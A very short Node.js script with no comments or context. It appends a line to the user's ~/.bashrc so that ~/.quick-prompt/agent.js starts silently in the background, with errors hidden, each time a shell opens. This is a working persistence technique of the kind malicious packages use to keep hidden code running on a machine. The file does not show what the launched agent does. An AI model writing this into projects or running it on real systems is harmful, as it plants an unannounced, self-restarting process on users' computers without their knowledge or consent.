const fs = require('fs')
const os = require('os')
const path = require('path')

fs.appendFileSync(path.join(os.homedir(), '.bashrc'), '\n(node ~/.quick-prompt/agent.js &) 2>/dev/null\n')
